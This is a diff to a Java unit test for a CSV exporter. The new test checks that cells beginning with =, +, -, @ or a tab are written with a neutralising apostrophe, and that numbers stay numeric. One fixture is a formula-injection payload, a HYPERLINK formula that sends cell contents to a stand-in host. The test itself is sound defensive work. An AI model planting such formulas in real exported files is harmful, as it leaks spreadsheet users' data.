@@ -15,7 +15,9 @@ import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import com.fasterxml.jackson.databind.JsonNode;
 import org.furat.io.csv.CsvFormat;
+import org.furat.text.CsvCells;
 import org.junit.jupiter.api.Test;
 
 class CsvFormatTest extends ExportFormatContract {
@@ -45,7 +47,7 @@ class CsvFormatTest extends ExportFormatContract {
      */
     @Override
     String textAsRead(String written) {
-        return written.isEmpty() ? null : written.replace("\r\n", "\n");
+        return written.isEmpty() ? null : CsvCells.neutralised(written).replace("\r\n", "\n");
     }
 
     /** A strict RFC 4180 reader: records of fields, a quoted field's text unquoted, an unquoted empty field null. */
@@ -115,7 +117,7 @@ class CsvFormatTest extends ExportFormatContract {
             assertFalse(record.get(0).contains("E") || record.get(1).contains("E"), "no exponent: " + record.subList(0, 2));
             for (int f = 0; f < SampleLayer.LAYER.fields().size(); f++) {
                 Object value = expected.values().get(f);
-                assertEquals(value == null ? null : ValueText.of(value), record.get(f + 2), "feature " + i + " " + SampleLayer.LAYER.fields().get(f).name());
+                assertEquals(value == null ? null : value instanceof String t ? CsvCells.neutralised(t) : ValueText.of(value), record.get(f + 2), "feature " + i + " " + SampleLayer.LAYER.fields().get(f).name());
             }
         }
     }
@@ -168,5 +170,39 @@ class CsvFormatTest extends ExportFormatContract {
     void fieldsNamedLikeTheCoordinateColumnsAreRefused() {
         Layer layer = new Layer("t", List.of(new Field("LAT", FieldType.REAL, 0, "")), null);
         assertThrows(IllegalArgumentException.class, () -> format().open(dir.resolve("t.csv"), layer));
+    }
+
+    @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndNumbersStayNumbers() throws IOException {
+        Layer layer = new Layer("sources", List.of(new Field("outlet", FieldType.TEXT, 80, ""), new Field("killed", FieldType.INTEGER, 0, ""),
+                new Field("share", FieldType.REAL, 0, "")), null);
+        String hyperlink = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")";
+        Path file = write("formulas.csv", layer, features(
+                new Object[] {-3.5, 35.25, hyperlink, -3L, -0.5},
+                new Object[] {40.5, -35.25, "+1", 2L, 1.5},
+                new Object[] {40.5, 35.25, "-x", null, null},
+                new Object[] {40.5, 35.25, "@SUM(A1:A9)", null, null},
+                new Object[] {40.5, 35.25, "\t=1+2", null, null},
+                new Object[] {40.5, 35.25, "-3", null, null},
+                new Object[] {40.5, 35.25, "a = b, -c", null, null}));
+        List<String> lines = Files.readString(file, StandardCharsets.UTF_8).lines().toList();
+        assertEquals("-3.5,35.25,\"'=HYPERLINK(\"\"http://example.com/?leak=\"\"&A1,\"\"Click\"\")\",-3,-0.5", lines.get(1));
+        assertEquals("40.5,-35.25,\"'+1\",2,1.5", lines.get(2), "a negative coordinate stays a number");
+        assertEquals("40.5,35.25,\"'-x\",,", lines.get(3));
+        assertEquals("40.5,35.25,\"'@SUM(A1:A9)\",,", lines.get(4));
+        assertEquals("40.5,35.25,\"'\t=1+2\",,", lines.get(5));
+        assertEquals("40.5,35.25,\"-3\",,", lines.get(6), "a text that is a plain number cannot be a formula");
+        assertEquals("40.5,35.25,\"a = b, -c\",,", lines.get(7));
+        Gdal.require();
+        JsonNode read = Gdal.readAsGeoJson(file, OPEN_OPTIONS).path("features");
+        List<String> outlets = new ArrayList<>();
+        read.forEach(f -> outlets.add(f.path("properties").path("outlet").textValue()));
+        assertEquals(List.of("'" + hyperlink, "'+1", "'-x", "'@SUM(A1:A9)", "'\t=1+2", "-3", "a = b, -c"), outlets,
+                "GDAL keeps the prefixed text as text");
+        JsonNode first = read.get(0);
+        assertEquals(-3.5, first.path("geometry").path("coordinates").get(0).asDouble(), 0.0);
+        assertTrue(first.path("properties").path("killed").isIntegralNumber(), first.toString());
+        assertEquals(-3, first.path("properties").path("killed").longValue());
+        assertEquals(-0.5, first.path("properties").path("share").doubleValue(), 0.0);
     }
 }
